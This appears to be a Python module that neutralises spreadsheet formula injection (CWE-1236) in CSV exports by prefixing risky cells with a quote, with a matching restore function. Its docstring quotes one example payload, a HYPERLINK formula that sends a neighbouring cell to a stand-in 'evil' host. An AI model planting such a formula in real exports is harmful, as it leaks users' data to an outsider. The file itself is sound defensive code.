"""What every file we write goes through, so it is safe to open in Excel (CWE-1236).

A text that begins with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
spreadsheets skip before reading one of those) is a formula to Excel, LibreOffice and openpyxl:
`=HYPERLINK("http://evil/?"&B2)` in a cadre's name would send a neighbour cell to anyone who
clicks it. OWASP's rule: such text is written with a `'` in front, which makes it plain text in
every spreadsheet. Numbers, dates and texts that do not begin so are written as they are.

Our importer recognises the `'` it added (`restored`) so that exporting and importing again
changes nothing.
"""

import csv
import io

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# Excel reads a CSV with a byte-order mark as UTF-8: the Vietnamese stays intact.
BOM = "\ufeff"


def neutralised(value):
    """`value` as it is safe to write in a spreadsheet cell."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return QUOTE + value
    return value


def restored(value):
    """A text we neutralised, as it was; any other value unchanged."""
    if (
        isinstance(value, str)
        and value.startswith(QUOTE)
        and value[len(QUOTE) :].startswith(FORMULA_PREFIXES)
    ):
        return value[len(QUOTE) :]
    return value


def neutralised_row(row) -> list:
    return [neutralised(value) for value in row]


def csv_bytes(rows) -> bytes:
    """Rows (the first the headings) as a CSV file in UTF-8 with its byte-order mark, every
    value neutralised. Quotes are doubled, as Excel does and as our reader expects."""
    out = io.StringIO()
    writer = csv.writer(out, dialect=csv.excel)
    for row in rows:
        writer.writerow(neutralised_row(row))
    return (BOM + out.getvalue()).encode("utf-8")
